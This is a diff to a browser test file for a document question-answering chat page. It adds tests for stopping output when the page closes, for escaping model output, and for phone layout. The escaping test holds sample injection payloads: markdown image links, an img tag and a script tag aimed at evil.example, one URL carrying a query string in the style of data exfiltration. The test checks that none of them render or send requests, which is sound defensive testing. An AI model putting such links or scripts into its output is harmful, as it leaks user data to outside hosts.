@@ -10,7 +10,7 @@ import pytest
 from playwright.sync_api import Browser, Page, expect
 
 from tests.browser.conftest import ARTICLES, ROOT, write
-from tests.browser.steps import Served, add_files, ask, open_page
+from tests.browser.steps import Served, add_files, ask, open_page, width_beyond_the_window
 from tests.chat_server import ChatServer, chat_server
 
 QUESTION = "When was the lamp made?"
@@ -96,3 +96,35 @@ def test_a_model_that_fails_leaves_the_quoted_answer_and_the_reason(page: Page, 
     turn = ask(page, QUESTION)
     expect(turn.locator(".notice")).to_contain_text("refused the key")
     expect(turn.locator(".words").first).to_contain_text("Antwerp in 1887")
+
+
+def test_a_closed_page_ends_the_writing(page: Page, model: ChatServer):
+    model.go_on.clear()
+    model.left.clear()
+    model.replies = [f"{FIRST}{SECOND}…"]
+    begin(page)
+    expect(page.locator(".turn .words").first).to_have_text("The lamp was made in Antwerp in 1887.")
+    page.close()
+    assert model.left.wait(10)
+
+
+def test_what_a_model_writes_is_shown_as_text_and_reaches_nobody(page: Page, model: ChatServer):
+    asked_for = []
+    page.on("request", lambda request: asked_for.append(request.url))
+    image = "![lamp](https://evil.example/?q=lamp) and <img src=https://evil.example/x> show the lamp of Antwerp"
+    model.replies = [
+        f"{FIRST} {image} [$1]. The [map](https://evil.example/map) <script>top.hit = 1</script> shows it [$1]."
+    ]
+    turn = ask(page, QUESTION)
+    expect(turn.locator(".words").nth(1)).to_contain_text("![lamp](https://evil.example/?q=lamp)")
+    expect(turn.locator(".words img, .words a, .words script")).to_have_count(0)
+    assert page.evaluate("window.hit") is None
+    assert [url for url in asked_for if "evil.example" in url] == []
+
+
+def test_what_is_written_fits_a_phone(phone: Page, model: ChatServer):
+    model.replies = [FIRST + SECOND]
+    turn = ask(phone, QUESTION)
+    expect(turn.locator(".words")).to_have_count(2)
+    expect(phone.get_by_label("Who writes the answer")).to_be_visible()
+    assert width_beyond_the_window(phone) <= 0
